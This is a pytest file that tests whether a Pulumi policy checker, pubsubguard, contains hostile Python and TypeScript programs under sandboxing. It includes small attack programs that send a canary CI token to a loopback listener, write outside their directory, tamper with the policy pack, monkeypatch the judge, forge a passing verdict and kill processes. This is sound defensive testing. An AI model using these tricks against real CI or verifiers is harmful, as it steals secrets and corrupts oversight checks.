"""`pubsubguard check` against programs that try to change its verdict or reach past it (issue 23).

Each program is small and does one trick. Every case asserts the exact exit code, that `--format json`
stdout parses and is pubsubguard's own document, and that nothing leaked: a TCP listener this test
starts received no connection, no file appeared outside the program's scratch directory, no process
the program started is left, and a secret from the check's environment never reached the program.
These need the confinement (bubblewrap) that `scripts/setup.sh` installs: without it the check says
so and runs the program unconfined, which these tests would rightly fail."""

from __future__ import annotations

import json
import os
import signal
import socket
import subprocess
import sys
import textwrap
import threading
import time
import uuid
from pathlib import Path

import pytest
import yaml

from support.installed import CHECKOUT_PINS, environment, installed_tool, own_virtualenv, user_env

from support import ROOT
CANARY = "pubsubguard-canary-" + uuid.uuid4().hex  # the "CI token" in the check's environment
VIOLATION = """
t = gcp.pubsub.Topic("orders", name="orders")
gcp.pubsub.Subscription("eo-push", name="eo-push", topic=t.name, enable_exactly_once_delivery=True,
    push_config={"push_endpoint": "https://push.example.com/p"}, expiration_policy={"ttl": ""})
"""  # no-exactly-once-on-push: mandatory
CLEAN = """
gcp.pubsub.Topic("orders", name="orders", message_retention_duration="86400s")
"""


class Listener:
    """A TCP server on loopback that records every connection it accepts."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self.running = True
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while self.running:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            conn.settimeout(1)
            try:
                self.received.append(conn.recv(65536) or b"<connected>")
            except OSError:
                self.received.append(b"<connected>")
            conn.close()

    def close(self):
        self.running = False
        self.thread.join(2)
        self.sock.close()


@pytest.fixture
def listener():
    server = Listener()
    yield server
    server.close()


def packs() -> list[Path]:
    """The pack's folders a program could try to edit: the checkout's, and the installed tool's (its copy in
    the wheel's site-packages and the one `pack path` keeps in the user's cache)."""
    found = [ROOT / "policies"]
    if USER_CACHE:
        _, bin_dir = installed_tool()
        found += sorted(bin_dir.parent.glob("lib/python*/site-packages/pubsubguard/policies"))
        found += sorted(p.parent for p in USER_CACHE[0].glob("*/PulumiPolicy.yaml"))
    return found


def project(tmp_path: Path, source: str, listener: Listener) -> Path:
    root = tmp_path / "team"
    root.mkdir()
    (root / "Pulumi.yaml").write_text(yaml.safe_dump({"name": "team", "runtime": "python"}))
    (root / "Pulumi.dev.yaml").write_text(yaml.safe_dump({"config": {"gcp:project": "proj-a"}}))
    header = f"""
import os, sys, socket, signal, subprocess, threading, time, atexit
import pulumi, pulumi_gcp as gcp
PORT = {listener.port}
OUTSIDE = {str(tmp_path / "outside")!r}
PACKS = {[str(pack) for pack in packs()]!r}
MARKER = {CANARY!r}
def exfiltrate():
    token = os.environ.get("CANARY_TOKEN", "no-token")
    for attempt in (lambda: socket.create_connection(("127.0.0.1", PORT), timeout=1).sendall(token.encode()),
                    lambda: open(OUTSIDE, "w").write(token)):
        try:
            attempt()
        except OSError:
            pass
def linger():
    return subprocess.Popen([sys.executable, "-c", "import time; time.sleep(300)", MARKER], start_new_session=True,
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""
    (root / "__main__.py").write_text(header + textwrap.dedent(source))
    return root


def check(root: Path, *args: str, timeout: float = 120, tool: str = "checkout") -> subprocess.CompletedProcess:
    """`pubsubguard check --format json` as the checkout runs it, or (`tool="wheel"`) as a team runs the wheel
    installed alone, the program in its own virtualenv (`as_installed`)."""
    if tool == "wheel":
        _, bin_dir = installed_tool()
        command = [str(bin_dir / "pubsubguard")]
        env = {**user_env(USER_CACHE[0]), "CANARY_TOKEN": CANARY}
    else:
        command = [sys.executable, "-m", "pubsubguard"]
        env = {**os.environ, "CANARY_TOKEN": CANARY}
    return subprocess.run([*command, "check", "--format", "json", *args], cwd=root,
                          env=env, capture_output=True, text=True, timeout=timeout, stdin=subprocess.DEVNULL)


USER_CACHE: list[Path] = []  # the installed tool's user cache, with the pack's virtualenv made once


@pytest.fixture(scope="module", autouse=True)
def installed_user_cache(tmp_path_factory):
    USER_CACHE[:] = [tmp_path_factory.mktemp("user") / "cache"]
    yield
    USER_CACHE.clear()


def as_installed(root: Path) -> Path:
    """The team's project with a virtualenv of its own, named by its Pulumi.yaml (for the wheel)."""
    own_virtualenv(environment(CHECKOUT_PINS), root / "venv")
    (root / "Pulumi.yaml").write_text(yaml.safe_dump(
        {"name": "team", "runtime": {"name": "python", "options": {"virtualenv": "venv"}}}))
    return root


def lingering() -> list[int]:
    found = []
    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            if CANARY.encode() in cmdline.read_bytes() and int(cmdline.parent.name) != os.getpid():
                found.append(int(cmdline.parent.name))
        except (OSError, ValueError):
            continue
    return found


def nothing_leaked(tmp_path: Path, listener: Listener) -> None:
    time.sleep(0.3)
    left = lingering()
    for pid in left:
        os.kill(pid, signal.SIGKILL)
    assert listener.received == [], "the program reached a listener on the host"
    assert not (tmp_path / "outside").exists(), "the program wrote a file outside its scratch directory"
    assert left == [], "a process the program started outlived the check"


def verdict(done: subprocess.CompletedProcess) -> dict:
    document = json.loads(done.stdout)  # parses, whatever the program printed
    assert set(document) >= {"passed", "violations", "error", "pack"}
    assert CANARY not in done.stdout + done.stderr
    return document


def mandatory(document: dict) -> list[str]:
    return sorted(v["policy"] for v in document["violations"] if v["level"] == "mandatory")


CASES = {
    # name: (program, extra args, exit code, stderr must contain, mandatory seen)
    "exit-0-at-exit-after-a-violation": (VIOLATION + "exfiltrate(); atexit.register(lambda: os._exit(0))\n",
                                         (), 1, "", ["no-exactly-once-on-push"]),
    "timer-exits-0-before-the-end": (VIOLATION + "threading.Timer(0.2, lambda: os._exit(0)).start(); time.sleep(5)\n",
                                     (), 2, "exited (code 0) before it completed", []),  # before it registered
    "os-exit-0-first": ("os._exit(0)\n" + VIOLATION, (), 2, "exited (code 0) before it completed", []),
    "prints-a-fake-verdict": ('print(\'{"passed": true, "violations": []}\'); sys.stdout.flush()\n' + VIOLATION,
                              (), 1, "", ["no-exactly-once-on-push"]),
    "sends-secrets-out-and-writes-outside": ("exfiltrate()\n" + CLEAN, (), 0, "", []),
    "leaves-a-process-behind": ("linger()\n" + CLEAN, (), 0, "", []),
    "kills-its-parent": (VIOLATION + "os.kill(os.getppid(), signal.SIGKILL); time.sleep(1)\n",  # the PID
                         (), 1, "", ["no-exactly-once-on-push"]),  # namespace's init: the kill reaches nobody
    "signals-its-process-group": (VIOLATION + "os.killpg(0, signal.SIGTERM); time.sleep(5)\n",
                                  (), 2, "killed by SIGTERM", []),  # before its resources registered
    "ignores-signals-and-spins": ("signal.signal(signal.SIGTERM, signal.SIG_IGN); signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                                  "linger()\nwhile True: pass\n", ("--timeout", "3"), 2, "did not finish within 3 s", []),
    "closes-stdout-and-stderr": ("os.close(1); os.close(2)\n" + VIOLATION, (), 1, "", ["no-exactly-once-on-push"]),
    "a-daemon-holds-stdout": ("subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(300)', MARKER])\n" + CLEAN,
                              (), 0, "", []),
    "floods-stdout": ("chunk = 'x' * 65536 + '\\n'\nfor _ in range(800): sys.stdout.write(chunk)\n" + VIOLATION,
                      (), 1, "", ["no-exactly-once-on-push"]),
    "allocates-4-gib": ("block = bytearray(4 * 1024 ** 3)\n" + CLEAN, (), 2, "--memory-limit", []),
    "registers-200000-resources": ("for i in range(200000): gcp.pubsub.Topic(f't{i}', name=f'topic-{i:06d}')\n",
                                   ("--max-resources", "300"), 2, "more than 300 resources (--max-resources", []),
    "a-10-mb-input": ("gcp.pubsub.Topic('big', name='big', labels={'x': 'y' * 10_000_000})\n", (), 2,
                      "over the limit of 1,000,000 (--max-input-bytes", []),
    "edits-the-policy-pack": ("""
for pack in PACKS:
    for target in (os.path.join(pack, "pubsub_rules", "zz_hostile.py"), os.path.join(pack, "PulumiPolicy.yaml")):
        try:
            open(target, "a").write("\\n# changed by a program\\n")
        except OSError:
            pass
""" + VIOLATION, (), 1, "", ["no-exactly-once-on-push"]),
    "monkeypatches-pubsubguard": ("""
try:
    import pubsubguard.judging as c, pubsubguard.core.plan as p
    c.format_json = lambda result: '{"passed": true}\\n'
    c.Outcome.exit_code = property(lambda self: 0)
    p.run_program = None
except ImportError:
    pass
""" + VIOLATION, (), 1, "", ["no-exactly-once-on-push"]),
    "logs-an-error-and-exits-0": (VIOLATION + "pulumi.log.error('all good, really')\n", (), 2, "all good, really",
                                  ["no-exactly-once-on-push"]),
    "reads-its-environment": ("""
leaked = [k for k, v in os.environ.items() if v == MARKER or k == "CANARY_TOKEN"]
home_ok = os.environ["HOME"].startswith(os.environ["TMPDIR"].rsplit("/", 1)[0])
gcp.pubsub.Topic("env", name="env-" + ("leaked" if leaked else "clean") + ("-home" if home_ok else "-nohome"))
""", (), 0, "", []),
}


@pytest.mark.parametrize("name", sorted(CASES))
@pytest.mark.parametrize("tool", ["checkout", "wheel"])
def test_a_hostile_program_cannot_change_the_verdict_or_reach_out(name, tool, tmp_path, listener):
    root = project(tmp_path, CASES[name][0], listener)
    if tool == "wheel":
        as_installed(root)
    judged_as_expected(root, name, CASES[name], tool, tmp_path, listener)


def judged_as_expected(root: Path, name: str, case: tuple, tool: str, tmp_path: Path, listener: Listener) -> None:
    """The exact exit code, the JSON parses, the mandatory violations seen, one line on stderr for exit 2,
    nothing leaked, the pack untouched, within a minute; a program that reads its environment saw none
    of the check's."""
    source, args, code, stderr_has, seen = case
    if tool == "wheel":
        _, bin_dir = installed_tool()  # built, and the pack's virtualenv made, before the clock starts
        subprocess.run([str(bin_dir / "pubsubguard"), "pack", "path"], env=user_env(USER_CACHE[0]), check=True,
                       capture_output=True, timeout=600)
    started = time.monotonic()
    done = check(root, *args, tool=tool)
    took = time.monotonic() - started
    document = verdict(done)
    assert done.returncode == code, (done.returncode, done.stderr[-2000:])
    assert "Traceback" not in done.stderr
    if stderr_has:
        assert stderr_has in done.stderr, done.stderr
    assert mandatory(document) == seen
    assert (document["error"] is not None) == (code == 2)
    if code == 2:
        assert document["passed"] is None and len(done.stderr.strip().splitlines()) == 1, done.stderr
    nothing_leaked(tmp_path, listener)
    for pack in packs():
        assert not (pack / "pubsub_rules" / "zz_hostile.py").exists()
        assert "changed by a program" not in (pack / "PulumiPolicy.yaml").read_text()
    assert took < 60, f"the check took {took:.0f} s"
    if name == "reads-its-environment":
        plan = subprocess.run([sys.executable, "-m", "pubsubguard", "plan"], cwd=root, capture_output=True, text=True,
                              env={**os.environ, "CANARY_TOKEN": CANARY}, check=True).stdout
        names = [r["inputs"].get("name") for r in json.loads(plan)["resources"] if r["type"] == "gcp:pubsub/topic:Topic"]
        assert names == ["env-clean-home"]


def test_a_repository_with_its_own_pubsubguard_package_cannot_stand_in_for_the_judge(tmp_path, listener):
    """The check runs in the judged repository: a `pubsubguard/` folder there (a pull request can add one)
    must not be what the check's own processes import."""
    root = project(tmp_path, VIOLATION, listener)
    fake = root / "pubsubguard" / "check"
    fake.mkdir(parents=True)
    (root / "pubsubguard" / "__init__.py").write_text("")
    (fake / "__init__.py").write_text(
        "import sys\ndef judge_main(*args):\n    sys.exit(0)\n")  # a judge that answers nothing and exits 0
    script = Path(sys.executable).parent / "pubsubguard"  # as users run it (`python -m` would put the cwd first)
    done = subprocess.run([str(script), "check", "--format", "json"], cwd=root, capture_output=True, text=True,
                          timeout=120, env={**os.environ, "CANARY_TOKEN": CANARY}, stdin=subprocess.DEVNULL)
    assert done.returncode == 1, done.stderr
    assert mandatory(verdict(done)) == ["no-exactly-once-on-push"]


def test_a_flood_is_cut_in_the_text_output(tmp_path, listener):
    root = project(tmp_path, "for _ in range(100000): print('spam ' * 20)\n" + CLEAN, listener)
    done = subprocess.run([sys.executable, "-m", "pubsubguard", "check"], cwd=root, capture_output=True, text=True,
                          timeout=120)
    assert done.returncode == 0, done.stderr
    assert "Program output (diagnostics):" in done.stdout and "more bytes not shown" in done.stdout
    assert len(done.stdout) < 20_000
    assert done.stdout.rstrip().splitlines()[-1].startswith("PASSED")


def test_secrets_are_masked_everywhere_and_still_judged(tmp_path, listener):
    secret_host = "hunter2-" + uuid.uuid4().hex[:8]
    root = project(tmp_path, f"""
t = gcp.pubsub.Topic("orders", name="orders")
gcp.pubsub.Subscription("push", name="push-sub", topic=t.name, expiration_policy={{"ttl": ""}},
    push_config={{"push_endpoint": pulumi.Output.secret("http://{secret_host}.example.com/push")}})
print("endpoint is http://{secret_host}.example.com/push")
""", listener)
    outputs = []
    for fmt in ("text", "json", "sarif"):
        done = subprocess.run([sys.executable, "-m", "pubsubguard", "check", "--format", fmt], cwd=root,
                              capture_output=True, text=True, timeout=120)
        assert done.returncode == 1, done.stderr  # push-endpoint-https judged the secret value
        outputs.append(done.stdout + done.stderr)
    assert "push-endpoint-https" in outputs[1]
    plan = tmp_path / "plan.json"
    subprocess.run([sys.executable, "-m", "pubsubguard", "plan", "--out", str(plan)], cwd=root, check=True,
                   capture_output=True)
    assert all(secret_host not in text for text in outputs + [plan.read_text()])
    assert "[secret]" in outputs[0] and '"secrets": "redacted"' in plan.read_text()
    shown = subprocess.run([sys.executable, "-m", "pubsubguard", "check", "--show-secrets"], cwd=root,
                           capture_output=True, text=True, timeout=120)
    assert secret_host in shown.stdout
    again = subprocess.run([sys.executable, "-m", "pubsubguard", "check", "--plan", str(plan), "--format", "json"],
                           cwd=root, capture_output=True, text=True, timeout=120)
    document = json.loads(again.stdout)  # a redacted secret is unknown to the rules: not judged, not rejected
    assert "push-endpoint-https" not in mandatory(document)
    assert any(e["policy"] == "push-endpoint-https" for e in document["unjudged"])


def test_ctrl_c_while_the_program_runs_ends_the_check_within_a_second(tmp_path, listener):
    root = project(tmp_path, "signal.signal(signal.SIGINT, signal.SIG_IGN)\nlinger()\n" + CLEAN + "while True: pass\n",
                   listener)
    process = subprocess.Popen([sys.executable, "-m", "pubsubguard", "check"], cwd=root, stdout=subprocess.PIPE,
                               stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 60
    while not lingering() and time.monotonic() < deadline:
        time.sleep(0.1)
    assert lingering(), "the program never started"
    for sig in (signal.SIGINT,):
        process.send_signal(sig)
        sent = time.monotonic()
        out, err = process.communicate(timeout=10)
        assert time.monotonic() - sent < 1.5
    assert process.returncode == 130 and err.strip().splitlines()[-1] == "pubsubguard check: interrupted"
    nothing_leaked(tmp_path, listener)


def test_sigterm_while_the_program_runs_is_130_and_leaves_nothing(tmp_path, listener):
    root = project(tmp_path, "linger()\n" + CLEAN + "time.sleep(300)\n", listener)
    process = subprocess.Popen([sys.executable, "-m", "pubsubguard", "check"], cwd=root, stdout=subprocess.PIPE,
                               stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 60
    while not lingering() and time.monotonic() < deadline:
        time.sleep(0.1)
    process.terminate()
    sent = time.monotonic()
    process.communicate(timeout=10)
    assert time.monotonic() - sent < 1.5 and process.returncode == 130
    nothing_leaked(tmp_path, listener)


def test_require_isolation_fails_where_bubblewrap_cannot_run(tmp_path, listener):
    root = project(tmp_path, CLEAN, listener)
    env = {**os.environ, "PATH": "/nonexistent"}  # no bwrap (nor prlimit) on PATH
    done = subprocess.run([sys.executable, "-m", "pubsubguard", "check", "--require-isolation"], cwd=root, env=env,
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 2
    assert done.stderr.strip().splitlines() == [
        "pubsubguard check: --require-isolation: bubblewrap (bwrap) is not installed: the program runs without "
        "network, file-system and PID isolation (its environment is still an allowlist; install bubblewrap for the rest)"]
    unconfined = subprocess.run([sys.executable, "-m", "pubsubguard", "check"], cwd=root, env=env,
                                capture_output=True, text=True, timeout=120)
    assert unconfined.returncode == 0
    assert "bubblewrap (bwrap) is not installed" in unconfined.stderr


# --- The same tricks in TypeScript (`runtime: nodejs`, issue 39) ------------------------------------
TS_VIOLATION = """
const t = new gcp.pubsub.Topic("orders", { name: "orders" });
new gcp.pubsub.Subscription("eo-push", { name: "eo-push", topic: t.name, enableExactlyOnceDelivery: true,
    pushConfig: { pushEndpoint: "https://push.example.com/p" }, expirationPolicy: { ttl: "" } });
"""  # no-exactly-once-on-push: mandatory
TS_CLEAN = """
new gcp.pubsub.Topic("orders", { name: "orders", messageRetentionDuration: "86400s" });
"""


def ts_project(tmp_path: Path, source: str, listener: Listener) -> Path:
    """A TypeScript program with the installed packages as its node_modules (tests/support/nodejs_projects.py)."""
    from support.nodejs_projects import node_modules

    root = tmp_path / "team"
    root.mkdir()
    (root / "Pulumi.yaml").write_text(yaml.safe_dump({"name": "team", "runtime": "nodejs"}))
    (root / "Pulumi.dev.yaml").write_text(yaml.safe_dump({"config": {"gcp:project": "proj-a"}}))
    (root / "package.json").write_text(json.dumps({"name": "team", "main": "index.ts"}))
    (root / "tsconfig.json").write_text(json.dumps({"compilerOptions": {
        "strict": True, "target": "ES2020", "module": "commonjs", "moduleResolution": "node"}, "files": ["index.ts"]}))
    (root / "node_modules").symlink_to(node_modules(), target_is_directory=True)
    header = f"""
import * as pulumi from "@pulumi/pulumi";
import * as gcp from "@pulumi/gcp";
import * as fs from "fs";
import * as net from "net";
import * as child_process from "child_process";
const PORT = {listener.port};
const OUTSIDE = {json.dumps(str(tmp_path / "outside"))};
const PACKS: string[] = {json.dumps([str(pack) for pack in packs()])};
const MARKER = {json.dumps(CANARY)};
function exfiltrate(): void {{
    const token = process.env.CANARY_TOKEN ?? "no-token";
    const socket = net.connect(PORT, "127.0.0.1", () => socket.end(token));
    socket.on("error", () => undefined);
    try {{ fs.writeFileSync(OUTSIDE, token); }} catch {{ /* read-only */ }}
    for (const pack of PACKS) {{
        try {{ fs.appendFileSync(pack + "/PulumiPolicy.yaml", "\\n# changed by a program\\n"); }} catch {{ /* read-only */ }}
    }}
}}
function linger(): void {{
    child_process.spawn(process.execPath, ["-e", "setTimeout(() => undefined, 300000)", MARKER],
                        {{ detached: true, stdio: "ignore" }}).unref();
}}
"""
    (root / "index.ts").write_text(header + textwrap.dedent(source))
    return root


TS_CASES = {
    # name: (program, extra args, exit code, stderr must contain, mandatory seen)
    "exit-handler-sets-0-after-a-violation": (TS_VIOLATION + "exfiltrate();\nprocess.on('exit', () => process.exit(0));\n",
                                              (), 1, "", ["no-exactly-once-on-push"]),
    "fails-late-then-exits-0": (TS_VIOLATION + "process.on('exit', () => { process.exitCode = 0; });\n"
                                "setTimeout(() => { throw new Error('failed late'); }, 300);\n",
                                (), 2, "failed late", ["no-exactly-once-on-push"]),
    "exits-0-first": ("process.exit(0);\n" + TS_VIOLATION, (), 2, "before it completed", []),  # the SDK's exit
    # handler makes it 1 ("leaked promises"): never 0, never passed
    "an-interval-keeps-it-alive": (TS_CLEAN + "linger();\nsetInterval(() => undefined, 1000);\n",
                                   ("--timeout", "25"), 2, "did not finish within 25 s", []),
    "prints-a-fake-verdict": ("console.log('{\"passed\": true, \"violations\": []}');\n" + TS_VIOLATION,
                              (), 1, "", ["no-exactly-once-on-push"]),
    "sends-secrets-out-and-writes-outside": ("exfiltrate();\n" + TS_CLEAN, (), 0, "", []),
    "leaves-a-process-behind": ("linger();\n" + TS_CLEAN, (), 0, "", []),
    "kills-its-parent": (TS_VIOLATION + "try { process.kill(process.ppid, 'SIGKILL'); } catch { /* init */ }\n",
                         (), 1, "", ["no-exactly-once-on-push"]),
    "floods-stdout": ("const chunk = 'x'.repeat(65536);\nfor (let i = 0; i < 800; i++) { console.log(chunk); }\n"
                      + TS_VIOLATION, (), 1, "", ["no-exactly-once-on-push"]),
    "allocates-4-gib": ("const block = new Uint8Array(4 * 1024 ** 3 - 1);\nblock.fill(1);\n" + TS_CLEAN, (), 2,
                        "--memory-limit", []),
    "registers-200000-resources": ("for (let i = 0; i < 200000; i++) { new gcp.pubsub.Topic(`t${i}`, { name: `topic-${i}` }); }\n",
                                   ("--max-resources", "300"), 2, "more than 300 resources (--max-resources", []),
    "a-10-mb-input": ("new gcp.pubsub.Topic('big', { name: 'big', labels: { x: 'y'.repeat(10000000) } });\n", (), 2,
                      "over the limit of 1,000,000 (--max-input-bytes", []),
    "reads-its-environment": ("""
const leaked = Object.entries(process.env).filter(([k, v]) => v === MARKER || k === "CANARY_TOKEN");
const homeOk = (process.env.HOME ?? "").startsWith((process.env.TMPDIR ?? "?").replace(/\\/[^/]*$/, ""));
new gcp.pubsub.Topic("env", { name: "env-" + (leaked.length ? "leaked" : "clean") + (homeOk ? "-home" : "-nohome") });
""", (), 0, "", []),
}


@pytest.mark.parametrize("name", sorted(TS_CASES))
@pytest.mark.parametrize("tool", ["checkout", "wheel"])
def test_a_hostile_typescript_program_cannot_change_the_verdict_or_reach_out(name, tool, tmp_path, listener):
    judged_as_expected(ts_project(tmp_path, TS_CASES[name][0], listener), name, TS_CASES[name], tool, tmp_path,
                       listener)
